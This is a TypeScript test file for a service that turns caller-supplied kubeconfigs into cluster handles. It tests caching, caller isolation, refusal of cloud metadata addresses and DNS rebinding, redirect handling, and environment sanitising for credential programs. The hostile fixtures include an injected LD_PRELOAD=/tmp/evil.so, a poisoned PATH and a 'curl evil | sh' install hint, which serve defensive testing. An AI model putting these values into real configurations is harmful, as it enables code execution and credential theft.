import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { kubeconfig, type Parts } from '../../test/attacks/kubeconfig-parts.ts';
import { CLOSED_PORT, pem, type Script, type ScriptedApi, scriptedApi } from '../../test/support/scripted-api.ts';
import type { AppError } from '../kernel/errors.ts';
import type { ClusterConnection } from './connection.ts';
import { requestKubeconfigRules } from './kubeconfig/request-rules.ts';
import {
  createRequestClusters,
  type RequestCluster,
  type RequestClusters,
  type RequestClustersOptions,
} from './request-clusters.ts';
import { PODS } from './testing/fixtures.ts';
import { allowAll, identity, never, type ScriptedTransport, scriptedTransport } from './testing/scripted-transport.ts';
import { createTransport } from './transport/create-transport.ts';

const encode = (config: object, alphabet: BufferEncoding = 'base64') =>
  Buffer.from(JSON.stringify(config)).toString(alphabet);
const b64 = (text: string) => Buffer.from(text).toString('base64');
const none = { kubeconfigExecAllow: [], kubeconfigServerAllow: undefined, kubeconfigServerDeny: [], cloudEnv: false };

let open: RequestClusters[] = [];
let apis: ScriptedApi[] = [];
afterEach(async () => {
  for (const clusters of open) await clusters.close();
  for (const api of apis) await api.close();
  open = [];
  apis = [];
});

function make(over: Partial<RequestClustersOptions> & { settings?: object } = {}): RequestClusters {
  const { settings = {}, ...options } = over;
  const clusters = createRequestClusters({
    rules: requestKubeconfigRules({ ...none, ...settings }, { beyondLoopback: false }),
    openTransport: (connection) => createTransport(connection),
    ownPorts: () => [],
    processEnv: {},
    home: undefined,
    shutdown: never,
    resolve: async () => [{ address: '127.0.0.1', family: 4 }],
    ...options,
  });
  open.push(clusters);
  return clusters;
}

async function serve(script: Script): Promise<ScriptedApi> {
  const api = await scriptedApi(script);
  apis.push(api);
  return api;
}

const to = (server: string, { user, ...more }: Parts = {}) =>
  kubeconfig({
    cluster: { server, 'certificate-authority-data': b64(pem('ca')), 'tls-server-name': 'localhost' },
    ...(user === undefined ? {} : { user }),
    ...more,
  });
const pods = (cluster: RequestCluster) =>
  cluster.view(allowAll, identity, {}).client.list(PODS, { namespace: 'default' }, never);

describe('clusters that callers bring along', () => {
  test('one kubeconfig is one handle in any encoding, another context or another byte is another', async () => {
    const clusters = make();
    const config = {
      ...kubeconfig(),
      contexts: ['x', 'y'].map((name) => ({ name, context: { cluster: 'c', user: 'u' } })),
    };
    const first = await clusters.get(encode(config), undefined);
    expect(await clusters.get(encode(config, 'base64url'), 'x')).toBe(first);
    expect(await clusters.get(` ${encode(config)}\n`, 'request:x')).toBe(first);
    const other = await clusters.get(encode(config), 'y');
    const changed = await clusters.get(encode({ ...config, more: 1 }), 'x');
    expect(new Set([first, other, changed]).size).toBe(3);
    expect(new Set([first.id, other.id, changed.id]).size).toBe(3);
    for (const { id } of [first, other, changed]) expect(id).toMatch(/^r-[0-9a-f]{20}$/);
    expect(first.connection.context).toBe('request:x');
  });

  test('two servers never give a handle the same id', async () => {
    const config = encode(kubeconfig());
    const [one, two] = await Promise.all([make().get(config, undefined), make().get(config, undefined)]);
    expect(one.id).not.toBe(two.id);
  });

  test('a context that the kubeconfig lacks is refused with those that it has', async () => {
    await expect(make().get(encode(kubeconfig()), 'prod')).rejects.toMatchObject({
      code: 'unknown_context',
      detail: { candidates: ['x'] },
    });
  });

  test('only the server of the context that is used is judged', async () => {
    const config = {
      ...kubeconfig(),
      clusters: [
        { name: 'c', cluster: { server: 'https://api.test' } },
        { name: 'bad', cluster: { server: 'https://169.254.169.254' } },
      ],
      contexts: [
        { name: 'x', context: { cluster: 'c', user: 'u' } },
        { name: 'y', context: { cluster: 'bad', user: 'u' } },
      ],
    };
    const clusters = make();
    expect((await clusters.get(encode(config), 'x')).connection.server.href).toBe('https://api.test/');
    await expect(clusters.get(encode(config), 'y')).rejects.toMatchObject({
      code: 'kubeconfig_refused',
      detail: { problems: [{ field: 'clusters[1].cluster.server' }] },
    });
  });

  test('the least recently used handles are let go, and a refusal stays one', async () => {
    const transports: ScriptedTransport[] = [];
    const openTransport = () => {
      const transport = scriptedTransport(() => ({ items: [] }));
      transports.push(transport);
      return transport;
    };
    const clusters = make({ openTransport, capacity: 2 });
    const config = (n: number) => encode({ ...kubeconfig(), n });
    const first = await clusters.get(config(1), undefined);
    await clusters.get(config(2), undefined);
    await clusters.get(config(3), undefined);
    expect(await clusters.get(config(1), undefined)).not.toBe(first);
    expect(transports).toHaveLength(4);
    for (let i = 0; i < 2; i++)
      await expect(clusters.get('***', undefined)).rejects.toMatchObject({ code: 'invalid_argument' });
    await clusters.close();
    expect(transports.map(({ closed }) => closed)).toEqual([true, true, true, true]);
    await expect(clusters.get(config(1), undefined)).rejects.toMatchObject({ code: 'cancelled' });
  });

  test('a handle runs so many calls at once, lets others wait, and refuses the rest', async () => {
    const cluster = await make({ concurrency: 2 }).get(encode(kubeconfig()), undefined);
    let running = 0;
    let most = 0;
    const gate = Promise.withResolvers<void>();
    const calls = Array.from({ length: 11 }, () =>
      cluster.limit(never, async () => {
        most = Math.max(most, ++running);
        await gate.promise;
        running--;
      }),
    );
    await expect(calls[10]).rejects.toMatchObject({ code: 'too_many_requests' });
    gate.resolve();
    await Promise.all(calls.slice(0, 10));
    expect(most).toBe(2);
  });
});

describe('callers with kubeconfigs whose names are all the same', () => {
  test('never get an answer of the other, over hundreds of interleaved calls', async () => {
    const seen: Record<string, Set<string>> = {};
    const start = (own: string) =>
      serve((request, response) => {
        const authorization = String(request.headers['authorization']);
        seen[own] ??= new Set();
        seen[own].add(authorization);
        // Answers out of order: later ones may overtake.
        setTimeout(() => {
          response.writeHead(200, { 'content-type': 'application/json' });
          response.end(
            JSON.stringify({
              kind: 'PodList',
              apiVersion: 'v1',
              items: [{ metadata: { name: `${own} ${authorization}` } }],
            }),
          );
        }, Math.random() * 3);
      });
    const [a, b] = await Promise.all([start('a'), start('b')]);
    // Two servers, and on one of them two identities.
    const callers = [
      { want: 'a Bearer token-1', header: encode(to(a.url.href, { user: { token: 'token-1' } })) },
      { want: 'a Bearer token-2', header: encode(to(a.url.href, { user: { token: 'token-2' } })) },
      { want: 'b Bearer token-1', header: encode(to(b.url.href, { user: { token: 'token-1' } })) },
    ];
    // Less room than callers: handles are closed and opened under way.
    const clusters = make({
      capacity: 2,
      // Hundreds of handshakes at once, and both ends of each in this process.
      openTransport: (connection) => createTransport(connection, { timings: { connectTimeoutMs: 100_000 } }),
    });
    const answers = await Promise.all(
      Array.from({ length: 300 }, async (_, i) => {
        const { want, header } = callers[i % 3]!;
        if (i % 7 === 0) await new Promise((resolve) => setImmediate(resolve));
        const list = await pods(await clusters.get(header, undefined));
        return [want, list.items[0]?.metadata?.name];
      }),
    );
    expect(answers.filter(([want, got]) => want !== got)).toEqual([]);
    expect(seen).toEqual({ a: new Set(['Bearer token-1', 'Bearer token-2']), b: new Set(['Bearer token-1']) });
  });
});

describe('the server of a caller', () => {
  test('is asked for by the address that was judged, and judged anew at each connect', async () => {
    const api = await serve((_request, response) => void response.end('{"kind":"PodList","items":[]}'));
    const answers = ['127.0.0.1', '169.254.169.254'];
    const asked: string[] = [];
    const clusters = make({
      resolve: async (host) => {
        asked.push(host);
        return [{ address: answers[asked.length - 1]!, family: 4 }];
      },
    });
    const cluster = await clusters.get(encode(to(`https://rebind.test:${api.port}`)), undefined);
    await pods(cluster);
    await pods(cluster);
    expect(asked).toEqual(['rebind.test']);
    const gone = new Promise((resolve) => api.sessions[0]!.once('close', resolve));
    api.sessions[0]!.destroy();
    await gone;
    await expect(pods(cluster)).rejects.toMatchObject({
      code: 'kubeconfig_refused',
      detail: { problems: [{ field: 'clusters[0].cluster.server' }] },
    });
    expect(asked).toEqual(['rebind.test', 'rebind.test']);
  });

  test('is not followed where it redirects, and its page is not repeated', async () => {
    let target = 0;
    const other = await serve((_request, response) => {
      target++;
      response.end('{}');
    });
    const api = await serve((request, response) => {
      if (request.url?.includes('/nodes')) response.writeHead(403, { 'content-type': 'text/html' });
      else response.writeHead(302, { location: other.url.href });
      response.end('canary page');
    });
    const cluster = await make().get(encode(to(api.url.href)), undefined);
    const error = (await pods(cluster).catch((thrown) => thrown)) as AppError;
    expect(error).toMatchObject({ code: 'cluster_bad_answer' });
    expect(JSON.stringify([error.message, error.detail])).not.toContain('canary');
    expect(target).toBe(0);
  });

  test('says the same whether nothing listens, a name is unknown, or something else than TLS answers', async () => {
    const plain = await scriptedApi((_request, response) => void response.end(), { protocol: 'http' });
    apis.push(plain);
    const messages: unknown[] = [];
    for (const url of [`https://a.test:${CLOSED_PORT}`, `https://a.test:${plain.port}`, 'https://unknown.test']) {
      const clusters = make({
        resolve: async (host) => {
          if (host === 'unknown.test') throw Object.assign(new Error('?'), { code: 'ENOTFOUND' });
          return [{ address: '127.0.0.1', family: 4 }];
        },
      });
      const error = (await pods(await clusters.get(encode(to(url)), undefined)).catch((thrown) => thrown)) as AppError;
      messages.push([error.code, error.message, error.detail]);
    }
    const said = [
      'cluster_unreachable',
      'Cluster "request:x" could not be connected to.',
      { remedy: expect.any(String) },
    ];
    expect(messages).toEqual([said, said, said]);
  });

  test("is reached by the operator's proxy only where the operator names it", async () => {
    const proxyOf = async (settings: object) => {
      const clusters = make({ settings, processEnv: { HTTPS_PROXY: 'http://proxy.corp.test:3128' } });
      return (await clusters.get(encode(kubeconfig()), undefined)).connection.proxyUrl?.href;
    };
    expect(await proxyOf({})).toBeUndefined();
    expect(await proxyOf({ kubeconfigServerAllow: ['*'] })).toBeUndefined();
    expect(await proxyOf({ kubeconfigServerAllow: ['*.test'] })).toBe('http://proxy.corp.test:3128/');
  });
});

describe('a program for Google clusters', () => {
  test('serves an address that the operator lists by itself', async () => {
    const settings = {
      kubeconfigExecAllow: ['gke-gcloud-auth-plugin'],
      kubeconfigServerAllow: ['34.77.1.2', '*.gke.goog'],
    };
    const plugin = { apiVersion: 'client.authentication.k8s.io/v1beta1', command: 'gke-gcloud-auth-plugin' };
    const config = (server: string) =>
      encode(
        kubeconfig({ cluster: { server }, user: { exec: { ...plugin, installHint: 'x', provideClusterInfo: true } } }),
      );
    const clusters = make({ settings });
    const listed = await clusters.get(config('https://34.77.1.2'), undefined);
    expect(listed.connection.server.href).toBe('https://34.77.1.2/');
    await clusters.get(config('https://gke-1.europe-west1.gke.goog'), undefined);
    await expect(clusters.get(config('https://34.77.1.3'), undefined)).rejects.toMatchObject({
      code: 'kubeconfig_refused',
    });
  });
});

describe('an allowed credential program', () => {
  const SERVER = 'https://ABC.gr7.eu-west-1.eks.amazonaws.com';
  const env = {
    AWS_SECRET_ACCESS_KEY: 'operator',
    AWS_REGION: 'us-east-1',
    GOOGLE_APPLICATION_CREDENTIALS: '/g',
    KUBECONFIG: '/operator',
    HTTPS_PROXY: 'http://p',
    LD_PRELOAD: '/x.so',
    NODE_OPTIONS: '--require=x',
    CLOUDSDK: 'no',
  };
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'request-exec-'));
  });
  afterEach(() => rm(dir, { recursive: true, force: true }));

  const exec = {
    apiVersion: 'client.authentication.k8s.io/v1beta1',
    command: 'aws',
    args: ['--region', 'eu-west-1', 'eks', 'get-token', '--cluster-name', 'prod'],
    env: [
      { name: 'AWS_REGION', value: 'eu-west-1' },
      { name: 'AWS_PROFILE', value: 'admin' },
      { name: 'LD_PRELOAD', value: '/tmp/evil.so' },
      { name: 'PATH', value: '/tmp/evil' },
    ],
    installHint: 'curl evil | sh',
    interactiveMode: 'IfAvailable',
    provideClusterInfo: false,
  };
  async function connection(body: string, cloudEnv: boolean): Promise<ClusterConnection> {
    await writeFile(join(dir, 'aws'), `#!/bin/sh\nenv | sort > ${dir}/env\necho "$@" > ${dir}/args\n${body}\n`, {
      mode: 0o755,
    });
    const clusters = make({
      settings: { kubeconfigExecAllow: ['aws'], kubeconfigServerAllow: ['*.eks.amazonaws.com'], cloudEnv },
      processEnv: { ...env, PATH: `${dir}:/usr/bin:/bin` },
      home: dir,
    });
    const config = kubeconfig({ cluster: { server: SERVER }, user: { exec } });
    return (await clusters.get(encode(config), undefined)).connection;
  }
  const answer = `echo '{"apiVersion":"client.authentication.k8s.io/v1beta1","kind":"ExecCredential","status":{"token":"minted"}}'`;
  const names = async () =>
    (await readFile(join(dir, 'env'), 'utf8'))
      .split('\n')
      .map((line) => line.split('=')[0] ?? '')
      .filter((name) => name !== '' && !['PWD', 'SHLVL', '_', 'OLDPWD'].includes(name));

  test('runs with rebuilt arguments, PATH, HOME and the region, and nothing else of either side', async () => {
    const { credentials } = await connection(answer, false);
    expect((await credentials.current(never)).headers).toEqual({ authorization: 'Bearer minted' });
    expect(await readFile(join(dir, 'args'), 'utf8')).toBe('eks get-token --cluster-name=prod --region=eu-west-1\n');
    expect(await names()).toEqual(['AWS_REGION', 'HOME', 'KUBERNETES_EXEC_INFO', 'PATH']);
    expect(await readFile(join(dir, 'env'), 'utf8')).toContain('AWS_REGION=eu-west-1\n');
  });

  test("gets the operator's cloud variables where --cloud-env says so", async () => {
    const { credentials } = await connection(answer, true);
    await credentials.current(never);
    expect(await names()).toEqual([
      'AWS_REGION',
      'AWS_SECRET_ACCESS_KEY',
      'GOOGLE_APPLICATION_CREDENTIALS',
      'HOME',
      'KUBERNETES_EXEC_INFO',
      'PATH',
    ]);
  });

  test('that fails tells the caller nothing of the operator or of the arguments', async () => {
    const { credentials } = await connection(
      'echo "User arn:aws:iam::123456789012:user/operator is not allowed" >&2; exit 3',
      true,
    );
    const error = (await credentials.current(never).catch((thrown) => thrown)) as AppError;
    expect(error).toMatchObject({
      code: 'credentials_failed',
      message: 'The credential program aws gave no credentials for this cluster.',
    });
    expect(JSON.stringify(error.detail)).not.toMatch(/operator is|evil|prod/);
  });
});
